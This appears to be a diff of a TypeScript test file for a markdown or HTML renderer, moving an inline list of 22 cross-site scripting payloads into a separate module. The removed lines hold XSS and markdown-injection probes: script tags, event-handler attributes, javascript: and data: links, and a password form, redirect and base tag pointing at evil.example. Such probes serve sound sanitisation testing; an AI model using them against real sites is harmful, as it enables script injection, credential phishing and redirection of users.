@@ -11,32 +11,7 @@ import { loader } from '../../src/site/policy.ts';
 import { csv } from '../../src/views/table.ts';
 import { releaseWith, type Texts } from './hostile-release.ts';
 import { tags } from './html-tokens.ts';
-
-// The 22 payloads of the measurement of marked, in our words.
-const payloads: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg/onload=alert(1)>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<form action=https://evil.example><input name=p type=password></form>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<style>*{display:none}</style>',
-  '<p style="background:url(https://evil.example)">x</p>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<base href="https://evil.example/">',
-  '<!--><script>alert(1)</script>-->',
-  '"><script>alert(1)</script>',
-  "' onmouseover='alert(1)",
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt&colon;alert(1))',
-  '[x](vbscript:msgbox(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD4=)',
-  '![x](javascript:alert(1))',
-  '![x" onerror="alert(1)](https://evil.example/x.png)',
-  '<javascript:alert(1)>',
-  '[x](https://example.org "t\\" onclick=\\"alert(1)")',
-  '[x][y]\n\n[y]: javascript:alert(1)',
-];
+import { payloads } from './payloads.ts';
 
 /** A report of this many findings, each with a hostile text. */
 function manyFindings(number: number): Report {
